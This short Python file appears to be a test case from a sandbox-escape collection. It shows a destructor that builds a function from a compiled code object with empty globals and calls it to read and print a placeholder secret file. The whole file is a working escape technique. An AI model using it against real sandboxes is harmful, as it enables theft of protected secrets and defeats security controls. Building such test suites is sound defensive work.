# technique: a destructor makes a function on an empty stack and calls it
# goal: read-secret
# source: own analysis: the default builtins of functions
import functools
import operator
code = compile('print(open("@SECRET@").read(), flush=True)', 'x', 'exec')


class Last:
    __del__ = staticmethod(functools.partial(
        next, map(operator.call, map(type(lambda: 0), [code], [{}]))))


last = Last()
